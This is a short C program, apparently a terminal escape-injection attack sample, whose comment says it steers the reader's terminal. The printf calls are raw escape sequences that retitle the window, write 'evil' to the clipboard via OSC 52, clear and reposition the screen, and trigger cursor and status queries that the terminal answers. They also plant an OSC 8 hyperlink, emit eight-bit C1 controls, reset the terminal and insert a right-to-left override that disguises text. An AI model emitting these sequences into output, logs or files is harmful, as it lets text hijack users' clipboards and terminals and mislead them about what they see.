/* Steers the terminal of whoever reads: title, clipboard, cursor, a hyperlink, eight-bit controls. */
#include "attack.h"

int main(void)
{
    printf("\033]0;title\007\033]52;c;ZXZpbA==\007\033[2J\033[5;5H\033[6n\033P1$r\033\\\033]8;;http://x\007link\033]8;;\007");
    printf("\302\233\061m\302\220x\302\234\b\r\v\f\033c\033(0\342\200\256shown\n");
    return 0;
}
